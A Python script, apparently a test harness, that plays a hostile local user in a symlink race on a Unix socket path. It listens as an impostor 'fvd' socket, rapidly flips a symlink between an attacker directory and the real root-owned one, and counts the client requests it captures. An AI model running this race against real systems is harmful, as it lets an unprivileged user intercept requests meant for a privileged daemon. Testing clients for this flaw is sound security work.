"""A hostile local user's side of the socket-path race (run as that user).

Listens on BASE/evil/fvd.sock as an impostor fvd and, for SECONDS, flips the symbolic link
BASE/link between BASE/evil and GOOD (a root-owned directory with the real socket), by renaming
a fresh link over it. Every line a client sends to the impostor is counted; the count is
written to OUT at the end. A client that checks one resolution of the path and connects
through another sends its request here.

    python3 impostor.py BASE GOOD SECONDS OUT
"""
import os
import socket
import sys
import threading
import time

base, good, seconds, out = sys.argv[1], sys.argv[2], float(sys.argv[3]), sys.argv[4]
evil = os.path.join(base, "evil")
os.makedirs(evil, exist_ok=True)
os.chmod(evil, 0o755)
path = os.path.join(evil, "fvd.sock")
if os.path.exists(path):
    os.unlink(path)
server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
server.bind(path)
os.chmod(path, 0o777)
server.listen(4096)
captured = 0
lock = threading.Lock()


def serve():
    global captured
    while True:
        try:
            conn, _ = server.accept()
        except OSError:
            return
        conn.settimeout(0.5)
        try:
            data = conn.recv(65536)
        except OSError:
            data = b""
        if data:
            with lock:
                captured += data.count(b"\n")
        conn.close()


threading.Thread(target=serve, daemon=True).start()
link = os.path.join(base, "link")
end = time.time() + seconds
flips = 0
while time.time() < end:
    for target in (evil, good):
        tmp = os.path.join(base, "link.tmp")
        try:
            os.unlink(tmp)
        except FileNotFoundError:
            pass
        os.symlink(target, tmp)
        os.rename(tmp, link)
        flips += 1
with lock:
    with open(out, "w") as f:
        f.write("%d %d\n" % (captured, flips))
